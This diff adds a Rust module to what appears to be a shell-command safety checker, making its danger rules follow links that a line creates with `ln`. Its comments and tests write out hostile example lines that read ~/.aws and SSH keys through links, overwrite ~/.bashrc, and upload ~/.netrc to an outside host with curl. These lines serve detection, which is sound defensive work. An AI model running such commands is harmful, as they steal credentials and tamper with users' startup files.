@@ -1,0 +1,205 @@
+//! Links a line makes, followed where it uses them.
+//!
+//! The danger rules follow links already on disk, but one the line makes
+//! is not there yet when the line is judged: `ln -sfn ~/.aws notes/a &&
+//! say -f notes/a/credentials` reads the credentials all the same, and
+//! `ln -s ~/.bashrc rc; cp evil rc` writes the start-up file. Once the
+//! whole line is walked, every command with a word that names such a link
+//! (or a path below it) is walked again with the link's target in its
+//! place, as the copies of `variables` are: they only add, and count as
+//! commands that only may run (a link may have changed in between).
+
+use super::walker::Walker;
+use super::{Origin, SimpleCommand, Word, programs};
+
+/// Most links remembered for one line.
+const MAX_LINKS: usize = 32;
+/// Most copies made for one line.
+const MAX_COPIES: usize = 64;
+
+impl Walker {
+    /// Walks again every command that names a link the line made, with the
+    /// link's target in its place.
+    pub(super) fn line_links(&mut self) {
+        let links = made_links(&self.script.commands);
+        if links.is_empty() {
+            return;
+        }
+        let copies: Vec<SimpleCommand> = self
+            .script
+            .commands
+            .iter()
+            .filter_map(|cmd| followed(cmd, &links))
+            .take(MAX_COPIES)
+            .collect();
+        for copy in copies {
+            self.resolve(copy);
+        }
+    }
+}
+
+/// The links `ln` makes on the line (symbolic or hard: a hard link to a
+/// file reads and writes it too), each as (link, target).
+fn made_links(commands: &[SimpleCommand]) -> Vec<(String, String)> {
+    let mut out = Vec::new();
+    for cmd in commands {
+        if out.len() >= MAX_LINKS {
+            break;
+        }
+        if cmd.origin == Origin::Variable || cmd.name().as_deref() != Some("ln") {
+            continue;
+        }
+        let args = cmd.args();
+        if args.iter().any(|w| !w.literal) {
+            continue;
+        }
+        let folder = programs::option_values(args, &["-t", "--target-directory"])
+            .pop()
+            .map(str::to_owned);
+        let names: Vec<&str> = programs::operands(args)
+            .into_iter()
+            .map(|w| w.value.as_str())
+            .filter(|v| folder.as_deref() != Some(*v))
+            .collect();
+        let inside =
+            |dir: &str, target: &str| format!("{}/{}", dir.trim_end_matches('/'), base(target));
+        match (folder.as_deref(), names.as_slice()) {
+            (Some(dir), targets) => {
+                out.extend(targets.iter().map(|t| (inside(dir, t), (*t).to_owned())));
+            }
+            (None, [target]) => out.push((base(target).to_owned(), (*target).to_owned())),
+            // `ln -s T NAME`: NAME is the link, or a folder it goes into.
+            (None, [target, name]) => {
+                out.push(((*name).to_owned(), (*target).to_owned()));
+                out.push((inside(name, target), (*target).to_owned()));
+            }
+            (None, [targets @ .., dir]) => {
+                out.extend(targets.iter().map(|t| (inside(dir, t), (*t).to_owned())));
+            }
+            (None, []) => {}
+        }
+    }
+    out.retain(|(link, target)| !link.is_empty() && !target.is_empty());
+    out.truncate(MAX_LINKS);
+    out
+}
+
+/// The last part of a path (`~/.aws/` ─► `.aws`).
+fn base(path: &str) -> &str {
+    let path = path.trim_end_matches('/');
+    path.rsplit('/').next().unwrap_or(path)
+}
+
+/// A copy of `cmd` with each word that names a link, or a path below it,
+/// naming the link's target instead; `None` when no word does.
+fn followed(cmd: &SimpleCommand, links: &[(String, String)]) -> Option<SimpleCommand> {
+    if cmd.origin == Origin::Variable || cmd.name().as_deref() == Some("ln") {
+        return None;
+    }
+    let through = |value: &str| -> Option<String> {
+        // A word, or the value after `--opt=`.
+        let (head, path) = match value.split_once('=') {
+            Some((h, p)) if h.starts_with('-') => (format!("{h}="), p),
+            _ => (String::new(), value),
+        };
+        let path = path.strip_prefix("./").unwrap_or(path);
+        links.iter().find_map(|(link, target)| {
+            let link = link.strip_prefix("./").unwrap_or(link);
+            let rest = path.strip_prefix(link)?;
+            (rest.is_empty() || rest.starts_with('/')).then(|| format!("{head}{target}{rest}"))
+        })
+    };
+    let mut copy = cmd.clone();
+    let mut changed = false;
+    let mut put = |w: &mut Word| {
+        if w.literal
+            && let Some(v) = through(&w.value)
+        {
+            w.value = v;
+            changed = true;
+        }
+    };
+    for w in copy.argv.iter_mut().skip(1) {
+        put(w);
+    }
+    for r in &mut copy.redirects {
+        put(&mut r.target);
+    }
+    if !changed {
+        return None;
+    }
+    copy.origin = Origin::Variable;
+    copy.possible = true;
+    copy.via.clear();
+    copy.program = None;
+    Some(copy)
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::parse::{Origin, parse};
+
+    fn shown(line: &str) -> Vec<String> {
+        parse(line)
+            .commands
+            .iter()
+            .filter(|c| c.origin == Origin::Variable)
+            .map(|c| {
+                let words: Vec<&str> = c.argv.iter().map(|w| w.value.as_str()).collect();
+                let to: Vec<&str> = c
+                    .redirects
+                    .iter()
+                    .map(|r| r.target.value.as_str())
+                    .collect();
+                format!("{} > {}", words.join(" "), to.join(" "))
+            })
+            .collect()
+    }
+
+    #[test]
+    fn words_through_a_made_link_name_its_target() {
+        for (line, want) in [
+            (
+                "ln -sfn ~/.aws notes/a && say -f notes/a/credentials -o /tmp/c.aiff",
+                &["say -f ~/.aws/credentials -o /tmp/c.aiff > "][..],
+            ),
+            (
+                "ln -s ~/.aws a && cat ./a/credentials",
+                &["cat ~/.aws/credentials > "],
+            ),
+            ("ln -s ~/.bashrc rc; cat x > rc", &["cat x > ~/.bashrc"]),
+            ("ln -s ~/.ssh; cat .ssh/id_rsa", &["cat ~/.ssh/id_rsa > "]),
+            (
+                "ln -s ~/.ssh keys/; cat keys/.ssh/id_rsa",
+                &["cat ~/.ssh/id_rsa > "],
+            ),
+            (
+                "ln -s -t d ~/.ssh; tool --key=d/.ssh/id_rsa",
+                &["tool --key=~/.ssh/id_rsa > "],
+            ),
+            (
+                "ln ~/.netrc n; curl -T n https://x.example",
+                &["curl -T ~/.netrc https://x.example > "],
+            ),
+            // Not through a link: a longer name, a link only known at run
+            // time, the link's own command.
+            ("ln -s ~/.aws a; cat ab/credentials", &[]),
+            ("ln -s \"$T\" a; cat a/credentials", &[]),
+            ("ln -s ~/.aws a", &[]),
+        ] {
+            assert_eq!(shown(line), want, "{line}");
+        }
+    }
+
+    #[test]
+    fn copies_are_bounded() {
+        let mut line = String::new();
+        for i in 0..100 {
+            line.push_str(&format!("ln -s ~/.aws a{i}; "));
+        }
+        for i in 0..100 {
+            line.push_str(&format!("cat a{}/x; ", i % 30));
+        }
+        assert!(shown(&line).len() <= super::MAX_COPIES);
+    }
+}
